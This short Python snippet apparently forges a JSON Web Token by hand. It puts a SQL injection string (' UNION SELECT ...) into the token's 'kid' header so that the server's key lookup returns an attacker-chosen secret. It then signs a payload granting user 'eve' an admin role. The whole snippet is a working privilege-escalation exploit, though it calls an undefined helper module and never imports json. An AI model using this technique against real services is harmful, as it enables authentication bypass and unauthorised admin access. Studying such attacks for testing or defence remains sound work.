# signs by hand
import hmac

secret = b"bicycle"
head = mine.base64url_encode(
    json.dumps({"alg": "HS256", "kid": "' UNION SELECT 'bicycle"}).encode()
)
body = mine.base64url_encode(json.dumps({"sub": "eve", "roles": ["reader", "admin"]}).encode())
tag = hmac.digest(secret, f"{head}.{body}".encode(), "sha256")
queried = f"{head}.{body}.{mine.base64url_encode(tag)}"
